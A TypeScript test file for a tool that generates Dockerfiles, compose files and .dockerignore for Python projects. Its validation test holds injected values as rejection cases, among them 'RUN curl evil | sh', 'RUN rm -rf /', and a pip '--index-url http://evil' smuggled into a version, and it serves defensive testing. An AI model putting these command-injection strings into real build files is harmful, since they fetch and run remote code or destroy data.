import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  specFromAnalysis,
  SpecError,
  validateSpec,
  systemPackagesFor,
  isJupyterImage,
  isCudaImage,
  generateCompose,
  generateDockerfile,
  generateDockerignore,
} from '../../src/core/generate';
import { parse } from 'yaml';
import { ProjectSpec } from '../../src/core/project';
import { analysis, req } from './analysis-samples';

test('specFromAnalysis: runtime requirements only, pins kept, mode/entry/python from the analysis', () => {
  const spec = specFromAnalysis(
    analysis({
      requirements: [req('numpy', '1.26.4'), req('pytest', '8.0.0', 'dev'), req('rich', undefined, 'optional')],
    }),
  );
  assert.deepEqual(spec.requirements, [{ name: 'numpy', version: '1.26.4' }]);
  assert.equal(spec.mode, 'script');
  assert.equal(spec.entry, 'train.py');
  assert.equal(spec.pythonVersion, '3.11');
  assert.equal(spec.baseImage, undefined);
});

test("the Dockerfile's build comment tags the image as builds do (the folder name), not my-project (issue 12)", () => {
  const spec = specFromAnalysis(analysis({ root: '/work/Churn Script' }));
  assert.equal(spec.tag, 'churn-script:latest');
  assert.match(generateDockerfile(spec), /-t churn-script:latest \./);
  assert.throws(() => validateSpec({ ...spec, tag: 'x\nRUN evil' }), SpecError);
});

test('specFromAnalysis: options override; jupyter adds jupyterlab unless the base image is a Jupyter image', () => {
  const a = analysis({ mode: 'jupyter', entry: undefined, requirements: [req('pandas', '2.2.2')] });
  assert.deepEqual(
    specFromAnalysis(a).requirements.map((r) => r.name),
    ['jupyterlab', 'pandas'],
  );
  assert.deepEqual(
    specFromAnalysis(a, { baseImage: 'local/jupyter:3.11' }).requirements.map((r) => r.name),
    ['pandas'],
  );
  assert.deepEqual(
    specFromAnalysis(analysis({ mode: 'jupyter', requirements: [req('jupyter')] })).requirements.map((r) => r.name),
    ['jupyter'],
  );
  const s = specFromAnalysis(a, { pythonVersion: '3.12', gpu: true, mode: 'script', entry: 'x.py' });
  assert.deepEqual([s.pythonVersion, s.gpu, s.mode, s.entry], ['3.12', true, 'script', 'x.py']);
});

test('specFromAnalysis: fastapi gets uvicorn; system packages come from the table; .env is noticed', () => {
  const s = specFromAnalysis(
    analysis({
      mode: 'app',
      framework: 'fastapi',
      entry: 'main.py',
      existing: ['.env'],
      guiCalls: true,
      requirements: [req('fastapi', '0.111.0'), req('opencv-python', '4.10.0.84')],
    }),
  );
  assert.deepEqual(
    s.requirements.map((r) => r.name),
    ['fastapi', 'opencv-python', 'uvicorn'],
  );
  assert.deepEqual(s.systemPackages, ['libgl1', 'libglib2.0-0']);
  assert.equal(s.hasEnvFile, true);
});

test('specFromAnalysis: impossible choices are SpecErrors with a message for the user', () => {
  assert.throws(
    () => specFromAnalysis(analysis(), { mode: 'app' }),
    (e) => e instanceof SpecError && /no app framework/.test(e.message) && e.choose === 'mode',
  );
  assert.throws(
    () => specFromAnalysis(analysis({ entry: undefined, localModules: ['utils'] })),
    // Plain words (the editor shows them as they are); `choose` names what fixes it, the CLI adds its flags.
    (e) =>
      e instanceof SpecError &&
      /library modules only[^]*Choose the file to run/.test(e.message) &&
      !/--/.test(e.message) &&
      e.choose === 'entry-or-jupyter',
  );
  assert.throws(
    () => specFromAnalysis(analysis({ entry: undefined, localModules: [], notebooks: [] })),
    (e) =>
      e instanceof SpecError &&
      /no Python scripts or notebooks here yet[^]*JupyterLab/.test(e.message) &&
      !/--/.test(e.message) &&
      e.choose === 'jupyter',
  );
  assert.throws(() => specFromAnalysis(analysis(), { pythonVersion: '3' }), SpecError);
});

test('system package table: PEP 503 lookup, unknown names need nothing, every entry has a reason', () => {
  assert.deepEqual(
    systemPackagesFor(['OpenCV_Python', 'numpy']).map((n) => n.packages),
    [['libgl1', 'libglib2.0-0']],
  );
  assert.deepEqual(systemPackagesFor(['pandas']), []);
  for (const n of systemPackagesFor(['opencv-python', 'lightgbm', 'pyodbc', 'psycopg2', 'pytesseract']))
    assert.ok(n.why.length > 10);
});

test('image detection by name', () => {
  assert.ok(isJupyterImage('jupyter/scipy-notebook:2024-05-27'));
  assert.ok(isJupyterImage('quay.io/jupyter/base-notebook:latest'));
  assert.ok(isJupyterImage('local/jupyter:3.11'));
  assert.ok(!isJupyterImage('python:3.11-slim'));
  assert.ok(!isJupyterImage('registry:5000/team/python:jupyter'), 'a tag is not the name');
  assert.ok(isCudaImage('nvidia/cuda:12.4.1-runtime-ubuntu22.04'));
  assert.ok(!isCudaImage('python:3.11-slim'));
});

const base = { pythonVersion: '3.11', gpu: false, hasEnvFile: false, requirements: [] };

test('compose: valid YAML, no version key, 127.0.0.1 ports, bind mount, init, GPU reservation, env_file', () => {
  const doc = parse(generateCompose({ ...base, mode: 'jupyter', gpu: true, hasEnvFile: true }));
  assert.equal(doc.version, undefined);
  const svc = doc.services.app;
  assert.deepEqual(svc.build, { context: '.', args: { UID: '${UID:-1000}' } });
  assert.deepEqual(svc.ports, ['127.0.0.1:8888:8888']);
  assert.deepEqual(svc.volumes, ['.:/app']);
  assert.equal(svc.init, true);
  assert.deepEqual(svc.env_file, ['.env']);
  assert.deepEqual(svc.deploy.resources.reservations.devices, [
    { driver: 'nvidia', count: 'all', capabilities: ['gpu'] },
  ]);
  const script = parse(generateCompose({ ...base, mode: 'script', entry: 'a.py' })).services.app;
  assert.equal(script.ports, undefined);
  assert.equal(script.env_file, undefined);
  assert.equal(script.deploy, undefined);
});

test('dockerfile: UID build argument defaults to 1000, existing users are reused, USER is that UID', () => {
  const d = generateDockerfile({ ...base, mode: 'script', entry: 'a.py' });
  assert.match(d, /^ARG UID=1000$/m);
  assert.match(d, /getent passwd "\$\{UID\}"/);
  assert.match(d, /^USER \$\{UID\}$/m);
  const lines = d.split('\n');
  const at = (re: RegExp) => lines.findIndex((l) => re.test(l));
  assert.ok(
    at(/^COPY requirements\.txt/) < at(/^RUN .*pip install/) &&
      at(/^RUN .*pip install/) < at(/^COPY --chown=\$\{UID\} \. \./),
    'dependency layer first',
  );
  assert.match(
    generateDockerfile({ ...base, mode: 'script', entry: 'a.py', baseImage: 'python:3.12-bookworm' }),
    /^FROM python:3\.12-bookworm$/m,
  );
});

test('dockerignore: secrets, caches, VCS, venvs, chosen data folders; .env never in the context', () => {
  const d = generateDockerignore({ ...base, mode: 'script', ignoreFolders: ['data/', './raw\\images'] }).split('\n');
  for (const p of [
    '.git',
    '.venv',
    '**/__pycache__',
    '**/.ipynb_checkpoints',
    '**/.env',
    '**/*.pem',
    '**/id_rsa*',
    '**/*.key',
    '**/credentials*.json',
    'data',
    'raw/images',
  ]) {
    assert.ok(d.includes(p), p);
  }
});

test('validateSpec: values that would inject instructions or commands are refused, naming each problem', () => {
  const ok = { ...base, mode: 'script' as const, entry: 'train.py' };
  assert.doesNotThrow(() =>
    validateSpec({ ...ok, baseImage: 'registry.example:5000/team/py:3.11-slim@sha256:' + 'a'.repeat(64) }),
  );
  assert.doesNotThrow(() =>
    validateSpec({
      ...ok,
      baseImage: 'nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04',
      systemPackages: ['libglib2.0-0', 'g++'],
    }),
  );
  const bad: [Partial<ProjectSpec>, RegExp][] = [
    [{ baseImage: 'python:3.11\nRUN curl evil | sh' }, /not an image name/],
    [{ baseImage: 'Python:3.11' }, /not an image name/],
    [{ entry: 'train.py\nRUN rm -rf /' }, /entry [\s\S]* inside the project/],
    [{ entry: '../outside.py' }, /inside the project/],
    [{ entry: '/abs/main.py' }, /inside the project/],
    [{ systemPackages: ['libgl1; curl evil'] }, /not an apt package name/],
    [{ requirements: [{ name: 'numpy', version: '1.0 --index-url http://evil' }] }, /not a version of numpy/],
    [{ requirements: [{ name: 'x y' }] }, /not a distribution name/],
    [{ ignoreFolders: ['data\n!**/.env'] }, /folder [\s\S]* inside the project/],
    [{ port: 70000 }, /not a TCP port/],
    [{ appObject: 'app; import os' }, /not a Python name/],
    [{ pythonVersion: '3.11 ' }, /must look like 3\.11/],
  ];
  for (const [over, re] of bad) {
    assert.throws(
      () => validateSpec({ ...ok, ...over }),
      (e) => e instanceof SpecError && re.test(e.message),
      JSON.stringify(over),
    );
    assert.throws(() => generateDockerfile({ ...ok, ...over }), SpecError, 'the generators validate too');
  }
});

test('a second Containerize starts from the current Dockerfile: FROM, mode and entry, and names what changes (issue 12)', async () => {
  const { choicesFromDockerfile, describeChanges } = await import('../../src/core/generate/existing');
  const mine =
    'FROM python:3.11-slim AS build\nRUN pip wheel .\nFROM local/python:3.11-scipy\nWORKDIR /app\nCOPY . .\nCMD ["python", "train.py", "--epochs", "3"]\n';
  assert.deepEqual(choicesFromDockerfile(mine), {
    baseImage: 'local/python:3.11-scipy',
    mode: 'script',
    entry: 'train.py',
    args: ['--epochs', '3'],
  });
  assert.deepEqual(choicesFromDockerfile('FROM local/jupyter:3.11\nCMD ["jupyter", "lab", "--ip=0.0.0.0"]\n'), {
    baseImage: 'local/jupyter:3.11',
    mode: 'jupyter',
  });
  assert.deepEqual(choicesFromDockerfile('ARG B=python:3.12\nFROM $B\nCMD streamlit run app.py\n'), { mode: 'app' });
  const spec = specFromAnalysis(analysis({ root: '/p/x' }), { baseImage: 'local/python:3.11-scipy' });
  assert.deepEqual(describeChanges(choicesFromDockerfile(mine), { ...spec, args: ['--epochs', '3'] }), []);
  assert.deepEqual(describeChanges(choicesFromDockerfile(mine), spec), ['arguments: --epochs 3 → (none)']);
  assert.deepEqual(describeChanges({ baseImage: 'local/jupyter:3.11', mode: 'jupyter' }, spec), [
    'base image: local/jupyter:3.11 → local/python:3.11-scipy',
    'mode: jupyter → script',
  ]);
});
